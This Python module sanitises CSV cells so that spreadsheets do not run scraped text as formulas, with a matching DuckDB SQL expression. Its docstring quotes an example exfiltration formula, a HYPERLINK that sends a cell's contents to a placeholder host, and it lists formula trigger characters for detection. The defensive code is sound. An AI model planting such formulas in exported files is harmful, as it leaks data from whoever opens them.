"""CSV cells a spreadsheet will not run as formulas.

Quotes and titles come from remote pages: a cell such as ``=HYPERLINK("http://x/?"&A1)`` or
``@SUM(...)`` would be evaluated by Excel or LibreOffice when a journalist opens the file. Text
cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a leading single
quote, which spreadsheets show as "this is text". Numbers are left alone: a numeric column stays
numeric, and a text cell that is just a number (``-1258.87``) is not a formula either.
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")
# The same two rules for DuckDB (RE2), used where DuckDB writes the CSV itself.
SQL_TRIGGER = r"^[=+\-@\t\r]"
SQL_PLAIN_NUMBER = r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?"


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that a spreadsheet would read as a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: Any) -> list[Any]:
    """Every cell of a row through :func:`cell`."""
    return [cell(v) for v in values]


def sql_cell(column: str) -> str:
    """A DuckDB expression for the quoted text column ``column``, made safe the same way."""
    return (
        f"CASE WHEN regexp_matches({column}, '{SQL_TRIGGER}')"
        f" AND NOT regexp_full_match({column}, '{SQL_PLAIN_NUMBER}')"
        f" THEN '''' || {column} ELSE {column} END"
    )
